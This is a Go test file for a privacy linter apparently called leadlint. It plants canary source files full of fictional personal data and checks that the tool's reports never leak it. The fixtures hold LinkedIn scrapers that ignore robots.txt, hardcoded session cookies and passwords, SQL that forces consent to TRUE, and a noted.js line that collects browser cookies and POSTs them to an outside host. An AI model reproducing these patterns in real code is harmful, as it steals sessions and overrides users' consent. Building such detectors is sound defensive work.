package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// canaryCode are files of code that set many rules off, with values of persons in them:
// beside the places, in the texts that are quoted, in comments and in names of files
// that are no code.
var canaryCode = map[string]string{
	"collect.py": `import requests, logging
# ask Quintavia Zwolferton, quintavia@zwolferton.example, +33 6 39 98 12 77, before changing this
ROBOTSTXT_OBEY = False  # quintavia.zwolferton@mail.example said so on 06 39 98 12 77
OWNER = {"name": "Quintavia Zwolferton", "email": "quintavia@zwolferton.example", "phone": "+33 6 39 98 12 77", "ROBOTSTXT_OBEY": False}
s = requests.Session()
s.cookies.set("li_at", "AQEDAR8xk2kF9aZ0001ab7Qw3tok3nvalue", domain=".linkedin.com")
s.headers.update({"cookie": "li_at=AQEDAR8xk2kF9aZ0001ab7Qw3tok3nvalue; JSESSIONID=ajax:1234567812345678tok3nvalue", "csrf-token": "ajax:1234567812345678tok3nvalue"})
s.headers["Authorization"] = "Bearer tok3nvalue.AQEDAR8xk2kF9aZ0001ab7Qw3.sunnyd4y"
PASSWORD = "Sunnyd4y!x"
s.post("https://www.linkedin.com/login", data={"session_key": "quintavia@zwolferton.example", "session_password": "Sunnyd4y!x"})
s.get("https://www.linkedin.com/voyager/api/identity/profiles/quintavia-zwolferton/profileContactInfo?email=quintavia%40zwolferton.example")
logging.info("Quintavia Zwolferton <quintavia@zwolferton.example> +33639981277 %s", profile)
print("user", user.email, "Quintavia Zwolferton", "quintavia (at) zwolferton (dot) example", "0639981277", "FR76 3000 6000 0112 3456 7890 189")
conn = connect("postgres://quintavia:Sunnyd4y@db.zwolferton.example/leads")
`,
	"crawl.go": `package crawl

func visit() {
	c := colly.NewCollector()
	c.IgnoreRobotsTxt = true // Quintavia Zwolferton, 14 Zwolferton Lane
	c.Visit("https://www.linkedin.com/in/quintavia-zwolferton")
	log.Printf("lead %v from %s", lead.Email, "quintavia@zwolferton.example")
}
`,
	"seed.sql": `INSERT INTO contacts (full_name, email, phone, consent) VALUES ('Quintavia Zwolferton', 'quintavia@zwolferton.example', '+33 6 39 98 12 77', TRUE);
UPDATE contacts SET newsletter_consent = TRUE WHERE newsletter_consent IS NULL OR email = 'quintavia@zwolferton.example';
INSERT INTO users (email, password) VALUES ('quintavia@zwolferton.example', 'Sunnyd4y!x');
`,
	"page.html": `<!doctype html><html><head><script src="https://www.googletagmanager.com/gtag/js?id=G-1&user=quintavia@zwolferton.example"></script></head>
<body><form><label>Newsletter of Quintavia Zwolferton <input type="checkbox" name="newsletter_consent" value="quintavia@zwolferton.example" checked></label>
<input type="email" name="email" value="quintavia@zwolferton.example"></form></body></html>
`,
	"mail.erb": `Dear Quintavia Zwolferton, your link is https://login.example/?u=quintavia@zwolferton.example&t=tok3nvalue
and your password is <%= user.password %>: <%= user.download_url %> Sunnyd4y!x
`,
	".env": `LINKEDIN_LI_AT=AQEDAR8xk2kF9aZ0001ab7Qw3tok3nvalue
LINKEDIN_EMAIL=quintavia@zwolferton.example
LINKEDIN_PASSWORD=Sunnyd4y!x
CONTACT_NAME=Quintavia Zwolferton
CONTACT_PHONE=+33639981277
ROBOTSTXT_OBEY=false
`,
	"session.json": `{"cookies": [{"name": "li_at", "value": "AQEDAR8xk2kF9aZ0001ab7Qw3tok3nvalue", "domain": ".linkedin.com", "owner": "Quintavia Zwolferton"}],
"person": {"name": "Quintavia Zwolferton", "email": "quintavia@zwolferton.example", "phone": "06 39 98 12 77"}}
`,
	"noted.js": `const crawler = new CheerioCrawler({
  // leadlint:ignore COD-01 reason="agreed with Quintavia Zwolferton, quintavia@zwolferton.example, 06 39 98 12 77" until=2027-03-31
  respectRobotsTxtFile: false,
})
const other = {respectRobotsTxtFile: false} // leadlint:ignore COD-01 reason="quintavia@zwolferton.example"
document.cookie = "li_at=AQEDAR8xk2kF9aZ0001ab7Qw3tok3nvalue"
chrome.cookies.getAll({domain: ".linkedin.com"}, c => fetch("https://collect.zwolferton.example/?t=tok3nvalue", {method: "POST", body: JSON.stringify(c)}))
console.log("Quintavia Zwolferton", user.email, "quintavia@zwolferton.example")
`,
	"seeds/people.rb": `Person.create!(name: "Quintavia Zwolferton", email: "quintavia@zwolferton.example", phone: "06.39.98.12.77", consent: true, password: "Sunnyd4y!x")
logger.info("created Quintavia Zwolferton #{person.email}")
`,
	"broken.py": `logging.info("Quintavia Zwolferton quintavia@zwolferton.example" % (user.email
ROBOTSTXT_OBEY = = False "quintavia@zwolferton.example
`,
}

// identifying are the letters of canaryCode that reach persons: addresses, numbers and
// words of access. A name of a person inside a line of code cannot be told from other
// words, and is quoted with its line.
var identifying = []string{
	"quintavia@", "@zwolferton", "quintavia%40", "(at) zwolferton", "tok3nvalue", "sunnyd4y", "aqedar8xk2kf9", "ajax:1234567812345678",
	"39 98 12 77", "39981277", "39.98.12.77", "3000 6000",
}

// TestNoCanaryInCode is [TestNoCanaryEscapes] for collection code: reports of every
// format, messages, the baseline, the list of exceptions and of facts.
func TestNoCanaryInCode(t *testing.T) {
	dir, temp := t.TempDir(), t.TempDir()
	t.Setenv("TMPDIR", temp)
	for name, content := range canaryCode {
		path := filepath.Join(dir, "src", name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	t.Chdir(dir)
	lines := [][]string{{"audit", "-v", "--lang", "fr", "src"}, {"audit", "src/collect.py", "-v"}, {"baseline", "write", "src"}, {"exceptions", "src"}, {"facts", "src"}, {"init", "src", "--out", "proposed.yaml"}}
	for _, format := range []string{"terminal", "json", "html", "sarif", "github", "gitlab"} {
		lines = append(lines, []string{"audit", "--as", "code", "-v", "--format", format, "src"})
	}
	for _, args := range lines {
		code, out, errs := runIn(args...)
		if code == 2 || code == 3 || len(out)+len(errs) == 0 {
			t.Errorf("%v exits with %d and %d bytes: %s", args, code, len(out), errs)
		}
		for _, name := range []string{".leadlint-baseline.json", "proposed.yaml"} {
			if data, err := os.ReadFile(name); err == nil {
				out += string(data)
			}
		}
		for name, text := range map[string]string{"stdout": out, "stderr": errs} {
			low := strings.ToLower(text)
			for _, one := range identifying {
				if i := strings.Index(low, one); i >= 0 {
					t.Errorf("%v: %s shows %q: …%s…", args, name, one, low[max(0, i-100):min(len(low), i+50)])
				}
			}
		}
	}
	left, err := os.ReadDir(temp)
	if err != nil || len(left) > 0 {
		t.Errorf("%d temporary files are left (%v)", len(left), err)
	}
}

// TestWithoutGit: a change cannot be told where git is not installed.
func TestWithoutGit(t *testing.T) {
	t.Setenv("PATH", t.TempDir())
	t.Chdir(t.TempDir())
	if err := os.WriteFile("settings.py", []byte("ROBOTSTXT_OBEY = False\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, _, errs := runIn("audit", "--as", "code", "--diff", "HEAD", "."); code != exitUsage || !strings.Contains(errs, "git is not installed") {
		t.Errorf("exit code %d, %q", code, errs)
	}
}
